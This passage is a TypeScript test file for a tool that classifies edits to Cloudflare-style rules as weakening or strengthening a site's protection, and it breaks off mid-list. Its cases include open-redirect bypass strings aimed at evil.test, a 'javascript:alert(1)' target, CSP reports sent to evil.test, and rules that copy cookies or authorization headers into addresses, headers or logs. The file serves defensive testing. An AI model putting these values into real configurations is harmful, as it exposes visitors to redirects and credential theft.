import { describe, expect, it } from 'vitest';
import { KNOWN_ACTION_PARAMETERS } from '../../../src/model/generated/known-fields.ts';
import type { JsonObject } from '../../../src/data/json.ts';
import type { RuleContent } from '../../../src/model/rule.ts';
import { judgeAdded, judgeChanged, judgeRemoved } from '../../../src/plan/impact/judge-content.ts';
import { protectionOf } from '../../../src/plan/impact/security-effect.ts';
import { content, id, SHOP } from '../build.ts';

type Parameters = JsonObject | null;
type Expected = 'neutral' | readonly ['weakens' | 'strengthens', reason: string];

/** Action parameters before and after, null where there is no rule, and the expected verdict. */
type Row = readonly [before: Parameters, after: Parameters, expected: Expected];

function judged(phase: string, before: RuleContent | null, after: RuleContent | null): Expected {
  const context = { scope: SHOP, phase };
  const verdict =
    before === null
      ? after === null
        ? ({ kind: 'same' } as const)
        : judgeAdded(after, context)
      : after === null
        ? judgeRemoved(before, context)
        : judgeChanged(before, after, context);
  const protection = protectionOf(verdict);
  return protection.kind === 'neutral'
    ? 'neutral'
    : [protection.kind === 'weakening' ? 'weakens' : 'strengthens', protection.reason];
}

/** Holds for a part of the site. */
const SOME = 'starts_with(http.request.uri.path, "/shop/")';

/** Judges each row of parameters for one action in one phase. */
function judges(phase: string, action: string, rows: readonly Row[], expression = SOME): void {
  const rule = (parameters: Parameters): RuleContent | null =>
    parameters === null ? null : content({ action, expression, action_parameters: parameters });
  it.each(rows)('%j → %j: %j', (before, after, expected) => {
    expect(judged(phase, rule(before), rule(after))).toEqual(expected);
  });
}

const target = (value: string): JsonObject => ({
  from_value: { target_url: { value } },
});
const computed = (expression: string): JsonObject => ({
  from_value: { target_url: { expression } },
});
const QUERY = 'http.request.uri.query';
const open = (where: string, mend: string) => ['weakens', `adds a redirect to ${where} (${mend})`] as const;
const anywhere = (from: string) =>
  open(`wherever ${from} says`, 'begin the target with https://, a host and a slash');
const goesOn = (from: string) =>
  open(`a host that the visitor can choose by ${from}`, `end the host with a slash before ${from}`);
const decides = (from: string) =>
  open(`a host of which ${from} decides a part`, 'end it with .shop.example/');
const slashes = (from: string) =>
  open(
    `wherever ${from} says, since a target that begins with two slashes names a host`,
    'begin the target with https://, a host and a slash',
  );
const UNKNOWN = ['weakens', 'adds a redirect to a host that is not known'] as const;
const EVIL = ['weakens', 'adds a redirect to evil.test'] as const;

const CORE = '4814384a9e5d4991b9815dcfc25d2f1f';
const CORE_NAME = 'managed:cloudflare-owasp-core-ruleset';

describe('skips', () => {
  judges('http_request_firewall_managed', 'skip', [
    [{ ruleset: 'current' }, { rulesets: [CORE] }, ['strengthens', 'skips less']],
    [{ ruleset: 'current' }, { rules: { [CORE]: [id(1)] } }, ['strengthens', 'skips less']],
    [{ rulesets: [CORE] }, { rules: { [CORE]: [id(1), id(2)] } }, ['strengthens', 'skips less']],
    [{ rulesets: [CORE] }, { rules: { [CORE]: [] } }, 'neutral'],
    [{ rules: { [CORE]: [id(1)] } }, { rulesets: [CORE] }, ['weakens', `skips the ruleset ${CORE_NAME}`]],
    [
      { rules: { [CORE]: [id(1)] } },
      { rules: { [CORE]: [id(2), id(3)] } },
      [
        'weakens',
        `skips 2 rules of the ruleset ${CORE_NAME}; no longer skips 1 rule of the ruleset ${CORE_NAME}`,
      ],
    ],
    [{ rulesets: [CORE] }, { ruleset: 'current' }, ['weakens', 'skips the rules after it']],
    [null, { rulesets: [CORE, id(9)] }, ['weakens', `skips the ruleset ${CORE_NAME}, the ruleset ${id(9)}`]],
  ]);
  judges('http_request_firewall_custom', 'skip', [
    [{ phases: ['http_request_firewall_managed'] }, { rulesets: [CORE] }, ['strengthens', 'skips less']],
    [
      { ruleset: 'current' },
      { phases: ['http_ratelimit', 'http_request_firewall_managed'] },
      ['weakens', 'skips Rate limiting rules, WAF managed rules; no longer skips the rules after it'],
    ],
    [
      { ruleset: 'current' },
      { rulesets: [CORE] },
      ['weakens', `skips the ruleset ${CORE_NAME}; no longer skips the rules after it`],
    ],
    [{ phase: 'current' }, { ruleset: 'current' }, ['strengthens', 'skips less']],
    [{ ruleset: 'current' }, { phase: 'current' }, ['weakens', 'skips the rest of its phase']],
  ]);
});

describe('redirects', () => {
  judges('http_request_dynamic_redirect', 'redirect', [
    [null, target('https://evil.test/'), EVIL],
    [target('https://evil.test/'), null, ['strengthens', 'removes a redirect to evil.test']],
    [target('https://shop.example/a'), target('https://evil.test/a'), EVIL],
    [
      target('https://evil.test/'),
      target('https://other.test/'),
      ['weakens', 'sends visitors to other.test'],
    ],
    [target('https://evil.test/a'), target('https://evil.test/b'), 'neutral'],
    [null, target('https://shop.example'), 'neutral'],
    [null, target('https://www.shop.example:8443/a?b#c'), 'neutral'],
    [null, target('HTTPS://WWW.SHOP.EXAMPLE/'), 'neutral'],
    [null, target('https://shop.example./a'), 'neutral'],
    [null, target('https://www.shop.example.:8443/'), 'neutral'],
    [null, target('https://shop.example../'), ['weakens', 'adds a redirect to shop.example..']],
    [null, target('https://evil.test./'), EVIL],
    [target('/a'), target('/b'), 'neutral'],
    [null, target('/'), 'neutral'],
    [null, target('//evil.test/'), UNKNOWN],
    [null, target('/\\evil.test/'), UNKNOWN],
    [null, target('/\t/evil.test/'), UNKNOWN],
    [null, target('https://notshop.example/'), ['weakens', 'adds a redirect to notshop.example']],
    [
      null,
      target('https://shop.example.evil.test'),
      ['weakens', 'adds a redirect to shop.example.evil.test'],
    ],
    [null, target('https://shop.example@evil.test/'), UNKNOWN],
    [null, target('https://shop.example @evil.test/'), UNKNOWN],
    [null, target('https:\\\\evil.test'), UNKNOWN],
    [null, target('javascript:alert(1)'), UNKNOWN],
    [null, target('http://shop.example/'), ['weakens', 'adds a redirect to an address without TLS']],
    [null, computed('concat("https://", http.host, http.request.uri.path)'), 'neutral'],
    [null, computed('concat("https://www.", http.host, http.request.uri)'), 'neutral'],
    [null, computed('concat("https://shop.example", http.request.uri.path)'), 'neutral'],
    [null, computed('concat("https://shop.example/", http.request.uri.query)'), 'neutral'],
    [null, computed('concat("https://shop.example", http.request.uri.query)'), goesOn(QUERY)],
    [null, computed('concat("https://shop.example@", http.request.uri.query)'), UNKNOWN],
    [
      null,
      computed('concat("https://", http.host, ".evil.test/")'),
      ['weakens', 'adds a redirect to *.evil.test'],
    ],
    [null, computed('concat("https://evil-", http.host)'), ['weakens', 'adds a redirect to evil-*']],
    [null, computed('concat("https://evil.test", http.request.uri.path)'), EVIL],
    [null, computed('concat("/a", http.request.uri.path)'), 'neutral'],
    [null, computed('concat("/", http.request.uri.query)'), slashes(QUERY)],
    [null, computed('http.request.uri.path'), slashes('http.request.uri.path')],
    [null, computed('http.request.headers["x-to"][0]'), anywhere('http.request.headers["x-to"][…]')],
    [null, computed('wildcard_replace(http.request.full_uri, "http://*", "https://${1}")'), 'neutral'],
    ...[
      'concat("https://build.shop.example", wildcard_replace(http.request.uri.path, "/build/*", "/${1}"))',
      'concat("https://shop.example", lower(http.request.uri.path))',
      'concat("https://shop.example/", substring(http.request.uri.path, 1))',
      'concat("https://shop.example:8443/", http.request.uri.query)',
      'concat("https://shop.example?", http.request.uri.query)',
      'concat("https://", lower(ip.src.country), ".shop.example", http.request.uri.path)',
      'concat("https://", split(http.host, ".", 9)[0], ".new.shop.example/")',
      'concat("https://shop.example/", lookup_json_string(http.request.body.raw, "to"))',
      'wildcard_replace(http.request.full_uri, "http*://shop.example/*", "https://shop.example/${2}")',
      'wildcard_replace(http.request.full_uri, "http*://shop.example/*", "http${1}://www.shop.example/${2}")',
      'wildcard_replace(http.request.full_uri, "*://*/*", "https://${2}/new/${3}")',
      'wildcard_replace(http.request.full_uri, "https://*.shop.example/*", "https://${1}.new.shop.example/${2}")',
      'wildcard_replace(http.request.full_uri, "https://*shop.example/*", "https://${1}shop.example/new/${2}")',
      'wildcard_replace(http.request.full_uri, "https://www.*", "https://${1}")',
      'wildcard_replace(http.request.full_uri, "https://shop.example*", "https://new.shop.example${1}")',
      'wildcard_replace(http.request.full_uri, "https://*/a/*", "https://${1}/b/${2}")',
      'regex_replace(http.request.full_uri, "^https?://([^/]+)/old/(.*)$", "https://${1}/new/${2}")',
      'regex_replace(http.request.full_uri, "^http://", "https://")',
      'regex_replace(http.request.full_uri, "/old/", "/new/")',
      'concat("https://shop.example", regex_replace(http.request.uri.path, "^/old/(.*)$", "/new/${1}"))',
      'coalesce("https://shop.example/a", concat("https://www.shop.example", http.request.uri))',
    ].map((expression): Row => [null, computed(expression), 'neutral']),
    ...(
      [
        [
          'wildcard_replace(http.request.full_uri, "https://*shop.example/*", "https://${1}/${2}")',
          decides('${1}'),
        ],
        [
          'wildcard_replace(http.request.full_uri, "https://*.shop.example/*", "https://${1}.com/${2}")',
          decides('${1}'),
        ],
        [
          'wildcard_replace(http.request.full_uri, "https://*shop.example/*", "https://new${1}shop.example/")',
          decides('${1}'),
        ],
        [
          'wildcard_replace(http.request.full_uri, "https://shop.example/*", "https://new.shop.example${1}")',
          goesOn('${1}'),
        ],
        ['wildcard_replace(http.request.full_uri, "*//*", "https:/${2}")', anywhere('${2}')],
        [
          'concat("https://shop.example", wildcard_replace(http.request.uri.path, "/old*", "${1}"))',
          goesOn('${1}'),
        ],
        ['concat("https://shop.example", lower(http.request.uri.query))', goesOn(QUERY)],
        ['concat("https://shop.example:", http.request.uri.query)', goesOn(QUERY)],
        ['concat("https:", http.request.uri.path)', anywhere('http.request.uri.path')],
        ['concat("https://shop.", lower(ip.src.country), "/")', decides('ip.src.country')],
        ['concat("https://", lower(ip.src.country), "shop.example/")', decides('ip.src.country')],
        [
          'concat("https://shop.example", substring(http.request.uri.path, 1))',
          goesOn('http.request.uri.path'),
        ],
        [
          'concat("https://shop.example", url_decode(remove_bytes(http.request.uri.path, "/")))',
          goesOn('url_decode(http.request.uri.path)'),
        ],
        [
          'concat("https://shop.example", regex_replace(http.request.uri.path, "^/old", ""))',
          goesOn('http.request.uri.path'),
        ],
        [
          'concat("https://shop.example", regex_replace(http.request.uri.path, "(a|b)", ""))',
          goesOn('regex_replace(http.request.uri.path)'),
        ],
        ['regex_replace(http.request.full_uri, "^https://[^/]+/to/(.*)$", "https://${1}")', goesOn('${1}')],
        [
          'regex_replace(http.request.full_uri, "^https://([a-z]+)[.]", "https://${1}.evil.")',
          decides('the requested host'),
        ],
        ['wildcard_replace(http.request.uri.path, "/old/*", "/${1}")', slashes('${1}')],
        [
          'wildcard_replace(http.request.full_uri, "https://www.*", "https://evil${1}")',
          ['weakens', 'adds a redirect to evil*'],
        ],
        ['wildcard_replace(http.request.full_uri, "https://*/*", "https://${1}@evil.test/")', UNKNOWN],
        ['concat("https://shop.example\\\\@", http.request.uri.query)', 'neutral'],
      ] as const
    ).map(([expression, expected]): Row => [null, computed(expression), expected]),
    [
      null,
      computed(
        'wildcard_replace(http.request.full_uri, "https://*.shop.example/*", "https://shop.example/${1}")',
      ),
      'neutral',
    ],
    [
      null,
      computed('wildcard_replace(http.request.full_uri, "https://*/*", "https://${2}")'),
      goesOn('${2}'),
    ],
    [
      null,
      computed('wildcard_replace(http.request.full_uri, "https://*", "https://${1}.evil.test/")'),
      'neutral',
    ],
    [null, computed('wildcard_replace(http.request.uri.query, "*", "https://${1}")'), goesOn('${1}')],
    [null, computed('no expression'), UNKNOWN],
    ...['http.cookie', 'http.request.headers["authorization"][0]'].map((field): Row => [
      null,
      computed(`concat("https://shop.example/?a=", ${field})`),
      ['weakens', 'adds a redirect that writes credentials of the request into the address'],
    ]),
    [null, computed('concat("https://shop.example/?a=", http.request.headers["cf-ray"][0])'), 'neutral'],
    [
      null,
      { from_list: { name: 'moved', key: 'http.request.full_uri' } },
      ['weakens', 'adds a redirect to where the list moved says'],
    ],
    [
      target('/a'),
      { from_value: { target_url: { value: '/a' }, future: 1 } },
      ['weakens', 'adds from_value.future, whose effect on protection is not known'],
    ],
  ]);
});

describe('URL rewrites by themselves', () => {
  judges('http_request_transform', 'rewrite', [
    [null, { uri: { path: { value: '/.' } } }, 'neutral'],
    [null, { uri: { query: { value: 'a=1' } } }, 'neutral'],
    [{ uri: { path: { value: '/a' } } }, { uri: { path: { value: '/b' } } }, 'neutral'],
  ]);
});

const header = (name: string, value?: string): JsonObject => ({
  headers: {
    [name]: value === undefined ? { operation: 'remove' } : { operation: 'set', value },
  },
});
const added = (name: string, value: string): JsonObject => ({
  headers: { [name]: { operation: 'add', value } },
});
const RUNS = 'by which browsers may run what was only text';
const CROSS_DOMAIN = 'x-permitted-cross-domain-policies';
const CSP = 'content-security-policy';
const poor = (name: string): Expected => [
  'weakens',
  `adds the header ${name}, whose value is not known to protect`,
];
const PERMISSIONS = 'permissions-policy';
const HSTS = 'strict-transport-security';
const TIME = `the header ${HSTS}`;

describe('response headers', () => {
  judges('http_response_headers_transform', 'rewrite', [
    [null, header('X-Frame-Options', 'DENY'), ['strengthens', 'adds the header x-frame-options']],
    [header('X-Frame-Options', 'DENY'), null, ['weakens', 'removes the header x-frame-options']],
    [header('X-Frame-Options', 'DENY'), header('x-frame-options', 'DENY'), 'neutral'],
    [
      header('X-Frame-Options', 'DENY'),
      header('X-Frame-Options', 'SAMEORIGIN'),
      ['weakens', 'changes the header x-frame-options'],
    ],
    [
      {
        headers: {
          'X-Frame-Options': { operation: 'set', value: 'DENY' },
          'x-frame-options': { operation: 'remove' },
        },
      },
      header('X-Frame-Options', 'DENY'),
      ['weakens', 'changes the header x-frame-options'],
    ],
    [null, header('X-Frame-Options', 'ALLOWALL'), poor('x-frame-options')],
    [null, header('X-Frame-Options'), ['weakens', 'adds the removal of the header x-frame-options']],
    [null, header(HSTS, 'max-age=31536000; includeSubDomains'), ['strengthens', `adds ${TIME}`]],
    [null, header(HSTS, 'max-age=0'), ['weakens', 'switches HSTS off']],
    [header(HSTS, 'max-age=60'), header(HSTS, 'max-age=0'), ['weakens', 'switches HSTS off']],
    [
      header(HSTS, 'max-age=31536000'),
      header(HSTS, 'max-age=60'),
      ['weakens', `changes ${TIME} from max-age=31536000 to max-age=60`],
    ],
    [
      header(HSTS, 'max-age=60'),
      header(HSTS, 'max-age=31536000'),
      ['strengthens', `changes ${TIME} from max-age=60 to max-age=31536000`],
    ],
    [
      header(HSTS, 'max-age=60; includeSubDomains'),
      header(HSTS, 'max-age=90'),
      ['weakens', `removes ${TIME} of subdomains`],
    ],
    [
      null,
      header(CSP, "default-src 'self'; style-src 'unsafe-inline'; script-src 'self'"),
      ['strengthens', `adds the header ${CSP}`],
    ],
    ...[
      "default-src 'none'; script-src 'sha256-YQ==' https://cdn.example/a.js 'strict-dynamic'",
      "script-src-elem 'self'; script-src-attr 'none'",
      "img-src *, script-src 'self'; report-uri /csp; report-to csp",
    ].map((value): Row => [null, header(CSP, value), ['strengthens', `adds the header ${CSP}`]]),
    ...[
      "frame-ancestors 'none'",
      'img-src *',
      "script-src 'self'; script-src-elem * 'unsafe-inline'",
      "script-src 'self'; script-src-attr 'unsafe-inline'",
      "script-src-elem 'self'",
      "script-src *; script-src 'self'",
      'script-src https://*',
      'script-src *:443',
      'script-src *.com',
      'script-src filesystem:',
      "script-src 'nonce-a'",
      "script-src\u00a0'self'",
      "default-src 'self'; report-uri https://evil.test/",
      "default-src 'self'; report-uri /a //evil.test/",
      "default-src 'self', img-src 'self'; report-to https://evil.test/",
    ].map((value): Row => [null, header(CSP, value), poor(CSP)]),
    [null, added(CSP, "frame-ancestors 'none'"), 'neutral'],
    [null, added(CSP, "default-src 'self'; report-uri https://evil.test/"), poor(CSP)],
    [
      null,
      header(PERMISSIONS, 'camera=(), geolocation=(self)'),
      ['strengthens', `adds the header ${PERMISSIONS}`],
    ],
    ...[
      'camera=("https://evil.test")',
      'camera=(self "https://evil.test")',
      'camera=*',
      'camera=(src)',
      'camera',
    ].map((value): Row => [null, header(PERMISSIONS, value), poor(PERMISSIONS)]),
    [
      null,
      header('Feature-Policy', "camera 'none'; usb 'self'"),
      ['strengthens', 'adds the header feature-policy'],
    ],
    [null, header('Feature-Policy', 'camera https://evil.test'), poor('feature-policy')],
    [null, header('Integrity-Policy', 'blocked-destinations=()'), poor('integrity-policy')],
    [
      null,
      header('Document-Isolation-Policy'),
      ['weakens', 'adds the removal of the header document-isolation-policy'],
    ],
    [
      null,
      header('Supports-Loading-Mode', 'credentialed-prerender'),
      [
        'weakens',
        'adds the header supports-loading-mode, by which other pages may load this one, as its visitor sees it',
      ],
    ],
    ...['filename="a.exe"', 'filename=a.html'].map((name): Row => [
      null,
      header('Content-Disposition', `attachment; ${name}`),
      [
        'weakens',
        'adds the header content-disposition, by which browsers may show what was only a download, or save it as a program',
      ],
    ]),
    [null, header(CSP, "default-src * 'unsafe-inline'"), poor(CSP)],
    [null, header(CSP, "script-src 'self' 'unsafe-eval'"), poor(CSP)],
    [null, { headers: { [CSP]: { operation: 'set', expression: 'http.host' } } }, poor(CSP)],
    [
      null,
      header('Access-Control-Allow-Origin', '*'),
      ['weakens', 'adds the header access-control-allow-origin, by which other sites may read answers'],
    ],
    [
      null,
      header('Access-Control-Allow-Origin'),
      ['strengthens', 'adds the removal of the header access-control-allow-origin'],
    ],
    [null, header('Set-Cookie', 'a=1'), ['weakens', 'adds the header set-cookie, which steers browsers']],
    [null, header('X-Robots-Tag', 'noindex'), 'neutral'],
    [null, header('Content-Type', 'text/html'), ['weakens', `adds the header content-type, ${RUNS}`]],
    [null, header('Content-Type', 'text/plain; charset=utf-8'), 'neutral'],
    [
      header('Content-Type', 'text/plain'),
      header('Content-Type', 'image/svg+xml'),
      ['weakens', `adds the header content-type, ${RUNS}`],
    ],
    [
      null,
      header('Content-Disposition', 'attachment'),
      ['strengthens', 'adds the header content-disposition'],
    ],
    [null, header('Content-Disposition'), ['weakens', 'adds the removal of the header content-disposition']],
    [
      null,
      header('X-Permitted-Cross-Domain-Policies', 'none'),
      ['strengthens', `adds the header ${CROSS_DOMAIN}`],
    ],
    [null, header('X-Permitted-Cross-Domain-Policies', 'all'), poor(CROSS_DOMAIN)],
    [
      null,
      header('Service-Worker-Allowed', '/'),
      ['weakens', 'adds the header service-worker-allowed, by which scripts may reach further'],
    ],
    [
      null,
      header('Link', '</a.css>; rel=stylesheet'),
      ['weakens', 'adds the header link, by which pages may load what others made'],
    ],
    ...[
      '</a>; title="; rel=preload"; rel=stylesheet',
      '</a>; title="; rel=preload;"',
      '</a>; rel="preload stylesheet"',
      '</a>; rel=stylesheet; rel=preload',
      '</a>; title="\\"; rel=preload; x=\\""; rel=stylesheet',
      '</a>; rel=next, </b>; x=", <c>; rel=next"; rel=stylesheet',
      '</a>',
    ].map((value): Row => [
      null,
      header('Link', value),
      ['weakens', 'adds the header link, by which pages may load what others made'],
    ]),
    [null, header('Link', '</a>; title="a, b; c"; rel="prefetch next", </b>; rel=next'), 'neutral'],
    [
      null,
      header('Link', '</a.css>; rel=preload; as=style, <https://shop.example/>; rel="canonical"'),
      'neutral',
    ],
    [
      null,
      header('Clear-Site-Data', '"*"'),
      ['weakens', 'adds the header clear-site-data, which steers browsers'],
    ],
    [null, header('Cache-Control', 'private, no-store'), ['strengthens', 'adds the header cache-control']],
    [null, header('CDN-Cache-Control', 'no-store'), ['strengthens', 'adds the header cdn-cache-control']],
    ...(
      [
        ['Cache-Control', 'public, max-age=60'],
        ['Cache-Control', 'max-age=3600, must-understand, no-store'],
        ['Cache-Control', 'private="set-cookie", max-age=60'],
        ['Cache-Control', 'x="a, no-store, b"'],
        ['Cache-Control', 'no-store; private'],
        ['Vary', 'private'],
        ['Expires', 'private'],
        ['No-Vary-Search', 'params'],
      ] as const
    ).map(([name, value]): Row => [
      null,
      header(name, value),
      [
        'weakens',
        `adds the header ${name.toLowerCase()}, by which caches may keep pages of one visitor for others`,
      ],
    ]),
    [null, added('X-Frame-Options', 'DENY'), poor('x-frame-options')],
    [null, added(CSP, 'default-src *'), 'neutral'],
    [null, added(CSP, "default-src 'self'"), ['strengthens', `adds the header ${CSP}`]],
    [
      null,
      {
        headers: {
          'X-Frame-Options': { operation: 'set', value: 'DENY' },
          'x-frame-options': { operation: 'remove' },
        },
      },
      ['weakens', 'adds the header x-frame-options twice, of which either may count'],
    ],
    ...['http.cookie', 'http.request.headers[r#"cookie"#][0]'].map((field): Row => [
      null,
      { headers: { 'X-Debug': { operation: 'set', expression: `concat("c=", ${field})` } } },
      ['weakens', 'adds the header x-debug, which shows scripts the credentials of the request'],
    ]),
    [
      null,
      { headers: { 'X-Ray': { operation: 'set', expression: 'http.request.headers["cf-ray"][0]' } } },
      'neutral',
    ],
    [header('Server', 'a'), header('Server'), 'neutral'],
    [null, header('Authorization', 'a'), 'neutral'],
  ]);
});

const trusted = 'the request header x-origin-auth, which the origin may trust';

describe('request headers', () => {
  judges('http_request_late_transform', 'rewrite', [
    [null, header('X-Origin-Auth', 'a'), ['weakens', `adds ${trusted}`]],
    [header('X-Origin-Auth', 'a'), null, ['weakens', `removes ${trusted}`]],
    [
      header('X-Origin-Auth', 'a'),
      header('X-Origin-Auth'),
      ['weakens', 'changes the request header x-origin-auth'],
    ],
    [
      header('X-Origin-Auth'),
      header('X-Origin-Auth', 'a'),
      ['weakens', 'changes the request header x-origin-auth'],
    ],
    [null, header('X-Remote-User'), ['strengthens', 'adds the removal of the request header x-remote-user']],
    ...['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Prefix', 'X-Envoy-Original-Path'].map((name): Row => [
      null,
      header(name, '/public'),
      [
        'weakens',
        `adds the request header ${name.toLowerCase()}, by which the origin may serve another page`,
      ],
    ]),
    [
      null,
      header('X-Original-URL'),
      ['strengthens', 'adds the removal of the request header x-original-url'],
    ],
    ...['Forwarded', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Remote-Addr', 'Via', 'CF-Visitor'].map(
      (name): Row => [
        null,
        header(name, 'a'),
        [
          'weakens',
          `adds the request header ${name.toLowerCase()}, which tells the origin who asks, and how`,
        ],
      ],
    ),
    [null, header('X-Forwarded-For'), ['weakens', 'adds the removal of the request header x-forwarded-for']],
    [
      null,
      header('X-HTTP-Method-Override', 'DELETE'),
      [
        'weakens',
        'adds the request header x-http-method-override, by which the origin may take another method',
      ],
    ],
    ...(
      [
        ['Proxy', 'by which programs of the origin may take another proxy'],
        ['X-Middleware-Subrequest', 'by which the origin may leave out its own checks'],
        ['SOAPAction', 'by which the origin reads the request in another way'],
      ] as const
    ).map(([name, why]): Row => [
      null,
      header(name, 'a'),
      ['weakens', `adds the request header ${name.toLowerCase()}, ${why}`],
    ]),
    [null, header('Proxy'), ['strengthens', 'adds the removal of the request header proxy']],
    [null, header('Origin'), ['weakens', 'adds the removal of the request header origin']],
    ...['X-Tenant-Id', 'X-Impersonate-User', 'X-Goog-IAP-JWT-Assertion', 'X-Forwarded-Client-Cert'].map(
      (name): Row => [
        null,
        header(name, 'a'),
        ['weakens', `adds the request header ${name.toLowerCase()}, which the origin may trust`],
      ],
    ),
    ...[
      'X-Country',
      'X-Request-Id',
      'Accept-Language',
      'User-Agent',
      'X-Device',
      'X-Served-By',
      'Baggage',
    ].map((name): Row => [null, header(name, 'a'), 'neutral']),
    [null, header('Exposed-Credential-Check', '1'), 'neutral'],
    [header('X-User-Agent', 'a'), header('X-User-Agent', 'b'), 'neutral'],
    [null, header('X-Frame-Options'), 'neutral'],
  ]);
});

const OWN = ", while the zone's own setting is not known";

describe('settings', () => {
  judges('http_config_settings', 'set_config', [
    [null, { ssl: 'strict' }, ['strengthens', 'sets ssl to strict']],
    [{ ssl: 'strict' }, null, ['weakens', 'no longer sets ssl to strict']],
    [{ ssl: 'strict' }, { ssl: 'off' }, ['weakens', 'changes ssl from strict to off']],
    [{ ssl: 'off' }, { ssl: 'strict' }, ['strengthens', 'changes ssl from off to strict']],
    [null, { ssl: 'full' }, ['weakens', `sets ssl to full${OWN}`]],
    [{ ssl: 'full' }, null, ['weakens', `no longer sets ssl to full${OWN}`]],
    [{ ssl: 'off' }, null, ['strengthens', 'no longer turns off encryption to the origin']],
    [{ ssl: 'strict' }, { ssl: 'origin_pull' }, ['weakens', 'changes ssl']],
    [null, { request_body_buffering: 'none' }, ['weakens', 'sets request_body_buffering to none']],
    [null, { request_body_buffering: 'standard' }, 'neutral'],
    [
      { request_body_buffering: 'none' },
      null,
      ['strengthens', 'no longer sets request_body_buffering to none'],
    ],
    [{ rocket_loader: true }, { rocket_loader: false, polish: 'lossy' }, 'neutral'],
    [null, { waf: 'off' }, ['weakens', 'adds waf, whose effect on protection is not known']],
    [null, { bic: true, waf: 'off' }, ['weakens', 'adds waf, whose effect on protection is not known']],
  ]);
});

const SHARED = 'caches pages, which visitors then share';
const OVERRIDE = 'overrides the cache times of the origin, even where it says `private`';
const key = (custom_key: JsonObject): JsonObject => ({
  cache_key: { custom_key },
});
const override = (time: number): JsonObject => ({
  mode: 'override_origin',
  default: time,
});

describe('caching', () => {
  judges('http_request_cache_settings', 'set_cache_settings', [
    [null, { cache: true }, ['weakens', SHARED]],
    [{ cache: true }, null, ['strengthens', `no longer ${SHARED}`]],
    [null, { cache: false }, ['strengthens', 'keeps pages out of the cache']],
    [{ cache: false }, { cache: true }, ['weakens', 'changes cache from false to true']],
    [{ cache: true }, { cache: true, edge_ttl: override(60) }, ['weakens', OVERRIDE]],
    [{ cache: true, edge_ttl: override(60) }, { cache: true, edge_ttl: override(90) }, 'neutral'],
    [
      { cache: true },
      {
        cache: true,
        edge_ttl: { mode: 'respect_origin' },
        browser_ttl: { mode: 'bypass' },
      },
      'neutral',
    ],
    [null, { cache: false, edge_ttl: override(60) }, ['strengthens', 'keeps pages out of the cache']],
    [
      { cache: true },
      {
        cache: true,
        edge_ttl: {
          status_code_ttl: [
            { status_code: 404, value: 60 },
            { status_code: 500, value: 0 },
          ],
        },
      },
      'neutral',
    ],
    [
      { edge_ttl: { status_code_ttl: [{ status_code: 200, value: -1 }] } },
      { edge_ttl: { status_code_ttl: [{ status_code: 404, value: -1 }] } },
      ['weakens', 'removes a cache bypass for status 200'],
    ],
    [
      { edge_ttl: { status_code_ttl: [{ status_code: 200, value: -1 }] } },
      { edge_ttl: { status_code_ttl: [{ status_code: 200, value: 60 }] } },
      ['weakens', 'changes edge_ttl.status_code_ttl status 200 from false to true'],
    ],
    [
      { cache: true },
      {
        cache: true,
        edge_ttl: {
          status_code_ttl: [{ status_code_range: { to: 399 }, value: 60 }],
        },
      },
      ['weakens', 'adds a time in the cache for status 100 to 399, whatever the origin says'],
    ],
    [
      key({ cookie: { include: ['session'] } }),
      key({ cookie: { include: ['a'] } }),
      ['weakens', 'removes the cookie session in the cache key'],
    ],
    [
      key({ cookie: { include: ['a'] } }),
      key({ cookie: { include: ['a', 'b'] } }),
      ['strengthens', 'adds the cookie b in the cache key'],
    ],
    [
      key({ header: { include: ['accept'] } }),
      null,
      ['weakens', 'removes the header accept in the cache key'],
    ],
    [
      null,
      key({ query_string: { exclude: { list: ['utm_source', 'page', 'utm_'] } } }),
      ['weakens', 'adds a cache key without page of the query; adds a cache key without utm_ of the query'],
    ],
    [null, key({ query_string: { exclude: { list: ['utm_source', 'gclid', 'fbclid'] } } }), 'neutral'],
    [
      null,
      key({ query_string: { exclude: { all: true } } }),
      ['weakens', 'adds a cache key without the query'],
    ],
    [null, key({ query_string: { exclude: '*' } }), ['weakens', 'adds a cache key without the query']],
    [null, key({ query_string: { include: { all: true } } }), 'neutral'],
    [
      key({ query_string: { include: ['a', 'b'] } }),
      key({ query_string: { include: { list: ['a'] } } }),
      ['weakens', 'removes b of the query in the cache key'],
    ],
    [null, { cache_key: { cache_deception_armor: true } }, ['strengthens', 'turns on cache deception armor']],
    [null, { strip_set_cookie: true }, ['weakens', 'removes the cookies that the origin sets']],
    [
      null,
      key({ future: 1 }),
      ['weakens', 'adds cache_key.custom_key.future, whose effect on protection is not known'],
    ],
  ]);
});

describe('caching of files that are cached by default', () => {
  judges(
    'http_request_cache_settings',
    'set_cache_settings',
    [
      [null, { cache: true }, 'neutral'],
      [null, { cache: true, edge_ttl: override(60) }, ['weakens', OVERRIDE]],
      [{ cache: false }, { cache: false, edge_ttl: override(60) }, 'neutral'],
      [
        null,
        { edge_ttl: { status_code_ttl: [{ status_code: 302, value: 60 }] } },
        ['weakens', 'adds a time in the cache for status 302, whatever the origin says'],
      ],
      [null, { strip_set_cookie: true }, ['weakens', 'removes the cookies that the origin sets']],
      [null, key({ query_string: { exclude: '*' } }), 'neutral'],
      [{ cache: false }, { cache: true }, ['weakens', 'changes cache from false to true']],
    ],
    'http.request.uri.path.extension in {"css" "js"} and http.host eq "shop.example"',
  );
});

describe('cache control directives', () => {
  judges('http_response_cache_settings', 'set_cache_control', [
    [null, { private: { operation: 'set' } }, ['strengthens', 'adds the directive private']],
    [null, { private: { operation: 'remove' } }, ['weakens', 'adds an answer without private']],
    [null, { public: { operation: 'set' } }, ['weakens', 'adds the directive public']],
    [
      { 's-maxage': { operation: 'set', value: 1 } },
      { 's-maxage': { operation: 'set', value: 2 } },
      'neutral',
    ],
    [null, { 'max-age': { operation: 'set', value: 60 } }, 'neutral'],
    [null, { 'must-understand': { operation: 'set' } }, ['weakens', 'adds the directive must-understand']],
  ]);
});

describe('logged fields', () => {
  judges('http_log_custom_fields', 'log_custom_field', [
    [
      null,
      { request_fields: [{ name: 'authorization' }] },
      ['weakens', 'adds the header authorization in logs'],
    ],
    ...[
      'proxy-authorization',
      'cookie',
      'x-api-key',
      'x-amz-security-token',
      'cf-access-client-secret',
      'x-auth-user',
      'x-goog-iap-jwt-assertion',
      'x-csrftoken',
      'ocp-apim-subscription-key',
      'private-token',
      'x-session-id',
      'dpop',
    ].map((name): Row => [
      null,
      { request_fields: [{ name }] },
      ['weakens', `adds the header ${name} in logs`],
    ]),
    ...[
      'user-agent',
      'x-author',
      'x-request-id',
      'www-authenticate',
      'x-ratelimit-remaining-tokens',
